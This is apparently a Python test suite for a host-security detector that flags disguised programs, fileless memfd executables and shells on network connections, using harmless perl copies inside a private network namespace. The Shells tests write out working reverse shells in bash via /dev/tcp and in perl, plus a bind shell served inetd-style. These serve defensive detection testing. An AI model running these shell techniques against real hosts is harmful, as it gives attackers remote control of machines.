"""Programs that should not be there: under borrowed names, without files, and shells on a
connection. All of it is harmless: copies of perl that hold a connection and wait."""

import json
import os
import pathlib
import shutil
import socket
import subprocess
import tempfile
import unittest

from support import NetNs, die_with_parent, lastack, require_kernel_tests, stop, wait_until

ID = "suspicious-program"
PERL = os.path.realpath("/usr/bin/perl")
HERE, THERE = "10.77.0.1", "10.77.0.2"  # both of the namespace itself, and neither is loopback
PORT = 4444
CONNECT = "my $s = IO::Socket::INET->new(PeerAddr => '{}', PeerPort => {}) or die;"
LISTEN = ("my $l = IO::Socket::INET->new(LocalAddr => '{}', LocalPort => {}, Listen => 5, "
          "ReuseAddr => 1) or die;")
WAIT = "$| = 1; print qq(READY\\n); <STDIN>;"
# What inetd does: each connection becomes the streams of a program.
SERVE = """
$SIG{CHLD} = 'IGNORE';
$| = 1; print qq(READY\\n);
while (my $c = $l->accept) {
  next if fork;
  open(STDIN, '<&', $c); open(STDOUT, '>&', $c); open(STDERR, '>&', $c);
  close $l;
  exec @ARGV;
}
"""


def setUpModule():
    require_kernel_tests("perl", "bash")


class Case(unittest.TestCase):
    def setUp(self):
        self.ns = self.enterContext(NetNs())
        for address in (HERE, THERE):
            self.ns.run("ip", "address", "add", f"{address}/32", "dev", "lo")
        with self.ns.entered():
            self.listener = socket.create_server((THERE, PORT))
        self.addCleanup(lambda: self.listener.close())

    def folder(self, where):
        path = pathlib.Path(tempfile.mkdtemp(prefix="lastack-test-", dir=where))
        self.addCleanup(shutil.rmtree, path)
        return path

    def program(self, where, name):
        """A copy of perl under that name in a folder of its own."""
        path = self.folder(where) / name
        shutil.copy(PERL, path)
        return path

    def start(self, *command, ns=None, **options):
        """Starts it in the namespace, and waits for its line READY."""
        process = subprocess.Popen((ns or self.ns).command(*map(str, command)),
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                                   preexec_fn=die_with_parent, **options)
        self.addCleanup(stop, process)
        self.assertEqual(process.stdout.readline(), "READY\n")
        return process

    def perl(self, program, code, *args, **options):
        return self.start(program, "-MIO::Socket::INET", "-e", code, *args, **options)

    def talker(self, where, name):
        path = self.program(where, name)
        return path, self.perl(path, CONNECT.format(THERE, PORT) + WAIT)

    def diagnose(self, *args):
        result = lastack("diagnose", "--only", ID, "--lang", "en", "--for", "1s", *args,
                         f"netns = {self.ns.inode}")
        self.assertIn(result.returncode, (0, 3), result.stderr)
        return result.stdout

    def found(self, *args):
        return [json.loads(line) for line in self.diagnose("--json", *args).splitlines()]

    def the_finding(self, process, severity):
        (finding,) = self.found()
        self.assertEqual(finding["process"]["pid"], process.pid)
        self.assertEqual(finding["severity"], severity)
        self.assertTrue(finding["now"])
        return finding


class Programs(Case):
    def test_a_program_in_tmp_that_talks(self):
        path, process = self.talker("/tmp", "miner")
        finding = self.the_finding(process, "warning")
        self.assertEqual(finding["process"]["exe"], str(path))
        self.assertEqual(finding["confidence"], "certain")

    def test_it_is_grave_that_it_deleted_its_file(self):
        path, process = self.talker("/tmp", "miner")
        path.unlink()
        finding = self.the_finding(process, "critical")
        self.assertEqual(finding["evidence"]["exe"], f"{path} (deleted)")

    def test_a_program_that_never_was_a_file(self):
        memory = os.memfd_create("payload", 0)
        self.addCleanup(os.close, memory)
        with open(PERL, "rb") as perl:
            os.sendfile(memory, perl.fileno(), 0, os.fstat(perl.fileno()).st_size)
        process = self.perl(f"/proc/self/fd/{memory}", CONNECT.format(THERE, PORT) + WAIT,
                            pass_fds=[memory])
        finding = self.the_finding(process, "critical")
        self.assertEqual(finding["process"]["exe"], "/memfd:payload")

    def test_the_trojan_of_the_article(self):
        path, process = self.talker("/var/lib", "EXPLORE.EXE")
        finding = self.the_finding(process, "warning")
        self.assertEqual(finding["process"]["exe"], str(path))
        self.assertIn("iexplore.exe", finding["title"])

    def test_a_look_alike_of_a_daemon_that_is_a_script(self):
        path = self.folder("/var/lib") / "ngnix"
        path.write_text(f"#!{PERL}\nuse IO::Socket::INET;\n" +
                        CONNECT.format(THERE, PORT) + WAIT)
        path.chmod(0o755)
        finding = self.the_finding(self.start(path), "warning")
        self.assertIn("nginx", finding["title"])

    def test_a_program_called_like_a_kernel_thread(self):
        path, process = self.talker("/var/lib", "kworker")
        finding = self.the_finding(process, "critical")
        self.assertEqual(finding["process"]["exe"], str(path))

    def test_a_script_that_calls_itself_a_daemon(self):
        process = self.perl(PERL, "$0 = '/usr/sbin/sshd'; " + CONNECT.format(THERE, PORT) + WAIT)
        finding = self.the_finding(process, "warning")
        self.assertEqual(finding["process"]["exe"], PERL)


class OrdinaryPrograms(Case):
    def test_a_daemon_after_an_upgrade_is_no_more_than_a_notice(self):
        path, process = self.talker("/usr/local/lib", "daemon")
        path.unlink()
        finding = self.the_finding(process, "notice")
        self.assertEqual(finding["process"]["exe"], str(path))

    def test_programs_of_the_system_and_of_home_directories(self):
        self.perl(PERL, CONNECT.format(THERE, PORT) + WAIT)
        self.talker("/usr/local/lib", "sshd")
        self.talker("/var/lib", "server")
        self.assertEqual(self.found(), [])

    def test_a_program_in_a_mount_namespace_of_its_own(self):
        script = ("mount -t tmpfs none /srv && mkdir -p /srv/app && cp \"$1\" /srv/app/server && "
                  "shift && exec /srv/app/server \"$@\"")
        process = self.start("unshare", "--mount", "sh", "-c", script, "sh", PERL,
                             "-MIO::Socket::INET", "-e", CONNECT.format(THERE, PORT) + WAIT)
        self.assertTrue(os.readlink(f"/proc/{process.pid}/exe").endswith("/app/server"))
        self.assertEqual(self.found(), [])


class Shells(Case):
    def accept(self):
        self.listener.settimeout(10)
        peer, _ = self.listener.accept()
        self.addCleanup(peer.close)
        return peer

    def shell(self, *command):
        process = subprocess.Popen(self.ns.command(*command), stdin=subprocess.DEVNULL,
                                   preexec_fn=die_with_parent)
        self.addCleanup(stop, process)
        return process

    def connect(self, port):
        with self.ns.entered():
            peer = socket.create_connection((HERE, port), timeout=10)
        self.addCleanup(peer.close)
        return peer

    def superserver(self, name, *command):
        """Serves a port like inetd, under that name; a connection to it, once its program runs."""
        path = self.program("/usr/local/lib", name)
        self.perl(path, LISTEN.format(HERE, PORT) + SERVE, *command)
        peer = self.connect(PORT)
        wait_until(lambda: peer.recv(100), "the program answers")
        return peer

    def script(self):
        path = self.folder("/var/lib") / "agent.sh"
        path.write_text("echo ready\nread line\n")
        return str(path)

    def test_a_reverse_shell_of_bash(self):
        with self.ns.entered():
            self.listener.close()
            self.listener = socket.create_server(("127.0.0.1", PORT))
        process = self.shell("bash", "-c", f"exec bash --norc -i >& /dev/tcp/127.0.0.1/{PORT} 0>&1")
        peer = self.accept()
        wait_until(lambda: peer.recv(4096), "the shell's prompt comes")
        finding = self.the_finding(process, "critical")
        self.assertEqual(finding["process"]["exe"], os.path.realpath("/bin/bash"))
        self.assertIn("reverse shell", finding["title"])
        self.assertEqual(len(finding["sockets"]), 1)

    def test_a_reverse_shell_that_a_program_started(self):
        code = CONNECT.format(THERE, PORT) + """
          open(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);
          system('/bin/sh', '-i');"""
        launcher = self.shell(PERL, "-MIO::Socket::INET", "-e", code)
        peer = self.accept()
        wait_until(lambda: peer.recv(4096), "the shell's prompt comes")
        (finding,) = self.found()
        self.assertEqual(finding["severity"], "critical")
        self.assertEqual(finding["process"]["exe"], os.path.realpath("/bin/sh"))
        self.assertIn(f"perl[{launcher.pid}]", finding["evidence"]["parents"])

    def test_a_shell_for_whoever_connects(self):
        self.superserver("relay", "/bin/bash", "--norc", "-i")
        (finding,) = self.found()
        self.assertEqual(finding["severity"], "critical")
        self.assertEqual(finding["process"]["exe"], os.path.realpath("/bin/bash"))

    def test_a_shell_in_the_configuration_of_inetd(self):
        self.superserver("inetd", "/bin/bash", "--norc", "-i")
        (finding,) = self.found()
        self.assertEqual(finding["severity"], "warning")

    def test_a_script_that_inetd_starts_for_a_connection_is_its_daily_work(self):
        self.superserver("inetd", "/bin/bash", self.script())
        self.assertEqual(self.found(), [])


class Baseline(Case):
    def test_a_program_that_never_talked_before(self):
        known = str(self.folder("/var/lib") / "baseline.toml")
        self.talker("/var/lib", "server")
        learned = lastack("diagnose", "--learn", "--for", "0s", "--baseline", known,
                          f"netns = {self.ns.inode}")
        self.assertEqual(learned.returncode, 0, learned.stderr)
        self.assertEqual(self.found("--baseline", known), [])
        _, process = self.talker("/var/lib", "agent")
        (finding,) = self.found("--baseline", known)
        self.assertEqual(finding["severity"], "warning")
        self.assertEqual(finding["process"]["pid"], process.pid)


if __name__ == "__main__":
    unittest.main()
